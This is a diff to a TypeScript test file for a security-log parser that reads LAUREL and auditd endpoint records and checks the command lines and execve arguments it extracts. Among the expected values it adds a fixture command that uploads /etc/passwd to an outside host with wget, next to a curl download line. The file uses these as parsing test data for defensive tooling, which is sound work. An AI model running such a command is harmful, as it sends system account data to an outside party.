@@ -60,5 +60,31 @@ describe('the system an endpoint record tells', () => {
 test('arguments in a list make one command line', () => {
   const lists = LOG_SOURCE_RECORDS.filter(({ label }) => /LAUREL|Endpoint Security/.test(label));
   const lines = lists.flatMap(({ record }) => fieldsOf(read(record).event)['CommandLine'] ?? []);
-  expect(lines).toEqual(['curl http://192.0.2.1/x', 'pbpaste -x']);
+  expect(lines).toEqual([
+    ...['curl http://192.0.2.1/x', 'wget --post-file=/etc/passwd http://192.0.2.1', 'pbpaste -x'],
+  ]);
+});
+
+test('the records of an event that LAUREL put into one are told by type and argument, as auditd writes them', () => {
+  const executed = (...argv: string[]) => ({
+    ...{ ID: '1773050400.500:42', NODE: 'web1', PARENT_INFO: { exe: '/bin/sh' } },
+    SYSCALL: { SYSCALL: 'execve', a0: '0x1a', a3: '0x3', exe: `/usr/bin/${argv[0]}` },
+    ...{ EXECVE: { argc: argv.length, ARGV: argv }, CWD: { cwd: '/' } },
+    PATH: [{ name: '/bin/x', nametype: 'NORMAL' }, { name: '/lib/y' }],
+  });
+  const records = [executed('ls', '-l'), executed('ls', '-l', '/'), executed('id', '-u')];
+  const lines = records.map((record) => JSON.stringify(record)).join('\n');
+  const events = [...openNdjson(sourceOf(bytesOf(lines)), 'lines').records()].map((parsed) =>
+    fieldsOf(parsed.type === 'event' ? parsed.event : undefined),
+  );
+  const numbered = ['a0', 'a1', 'a2', 'a3', 'a4'];
+  expect(events.map((event) => numbered.map((name) => event[name]))).toEqual([
+    [['1a', 'ls'], '-l', undefined, '3', undefined],
+    [['1a', 'ls'], '-l', '/', '3', undefined],
+    [['1a', 'id'], '-u', undefined, '3', undefined],
+  ]);
+  expect(events[0]).toMatchObject({
+    ...{ type: ['SYSCALL', 'EXECVE', 'CWD', 'PATH'], 'SYSCALL.a0': '0x1a' },
+    ...{ name: ['/bin/x', '/lib/y'], nametype: 'NORMAL' },
+  });
 });
